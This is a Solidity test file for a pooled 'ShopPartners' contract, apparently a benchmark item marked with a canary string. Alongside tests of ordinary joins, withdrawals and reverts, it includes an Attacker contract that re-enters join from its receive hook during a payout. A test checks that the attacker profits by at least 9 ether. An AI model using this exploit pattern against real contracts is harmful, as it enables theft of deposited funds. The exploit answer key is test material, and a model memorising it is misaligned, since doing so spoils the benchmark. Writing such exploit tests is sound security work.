// SPDX-License-Identifier: MIT
pragma solidity 0.6.12;

import "./ShopPartners.sol";

// assay-canary-3ebbbe1e-6432-4508-bb39-ffd386d9ab15

interface Vm {
    function deal(address account, uint256 amount) external;
    function expectRevert(bytes calldata reason) external;
    function prank(address sender) external;
    function startPrank(address sender) external;
    function stopPrank() external;
    function warp(uint256 time) external;
}

contract Proof {
    Vm private constant vm = Vm(0x7109709ECfa91a80626fF3989D68f67F5b1DD12D);
    address private constant ANA = address(0xA9A);
    address private constant BEN = address(0xBE9);
    uint256 private constant START = 1_800_000_000;

    ShopPartners private shop;
    Attacker private mallory;

    function setUp() public {
        vm.warp(START);
        vm.deal(address(this), 1e15);
        shop = new ShopPartners{value: 1e15}();
        vm.deal(ANA, 20 ether);
        vm.deal(BEN, 20 ether);
        vm.prank(ANA);
        shop.join{value: 6 ether}(6 ether);
        vm.prank(BEN);
        shop.join{value: 4 ether}(4 ether);
        mallory = new Attacker(shop);
        vm.deal(address(mallory), 100 ether);
    }

    function test_Regular() public {
        require(shop.total() == 10 ether + 1e15 && shop.worth(1 ether) == 1 ether, "joined");
        vm.deal(address(this), 10 ether);
        (bool ok, ) = address(shop).call{value: 5 ether}("");
        require(ok && shop.worth(1 ether) > 1.499 ether, "sold");
        vm.warp(START + 30 days);
        vm.prank(ANA);
        uint256 amount = shop.leave(4 ether, 5.99 ether);
        require(ANA.balance == 14 ether + amount && shop.shares_of(ANA) == 2 ether, "left");
        vm.prank(ANA);
        uint256 shares = shop.join{value: 3 ether}(2 ether);
        require(shares > 2 ether && shares < 2.01 ether, "joined again");
        vm.prank(BEN);
        amount = shop.leave(4 ether, 0);
        require(amount > 5.99 ether && amount < 6 ether && shop.shares_of(BEN) == 0, "all of it");
    }

    function test_RefusesPartners() public {
        vm.expectRevert("!locked");
        new ShopPartners();
        vm.startPrank(ANA);
        vm.expectRevert("!shares");
        shop.join(0);
        vm.expectRevert("!shares");
        shop.join{value: 1 ether}(1 ether + 1);
        vm.warp(START + 30 days - 1);
        vm.expectRevert("!stay");
        shop.leave(1 ether, 0);
        vm.warp(START + 30 days);
        vm.expectRevert("!shares");
        shop.leave(0, 0);
        vm.expectRevert("!shares");
        shop.leave(6 ether + 1, 0);
        vm.expectRevert("!amount");
        shop.leave(1 ether, 1 ether + 1);
        vm.stopPrank();
    }

    function test_RefusesUnpaid() public {
        vm.deal(address(this), 1 ether);
        shop.join{value: 1 ether}(0);
        vm.warp(START + 30 days);
        vm.expectRevert("!paid");
        shop.leave(1 ether, 0);
    }

    function exploit() public {
        mallory.enter();
        vm.warp(START + 30 days);
        mallory.swap();
        vm.warp(START + 60 days);
        mallory.exit();
    }

    function test_Exploit() public {
        exploit();
        require(address(mallory).balance >= 109 ether, "no gain");
    }

    function target() public view returns (address) {
        return address(shop);
    }

    function attacker() public view returns (address) {
        return address(mallory);
    }
}

contract Attacker {
    ShopPartners private shop;
    bool private joined;

    constructor(ShopPartners s) public {
        shop = s;
    }

    function enter() external {
        shop.join{value: 100 ether}(0);
    }

    function swap() external {
        shop.leave(shop.shares_of(address(this)), 0);
    }

    function exit() external {
        shop.leave(shop.shares_of(address(this)), 0);
    }

    receive() external payable {
        if (joined) return;
        joined = true;
        shop.join{value: 100 ether}(0);
    }
}
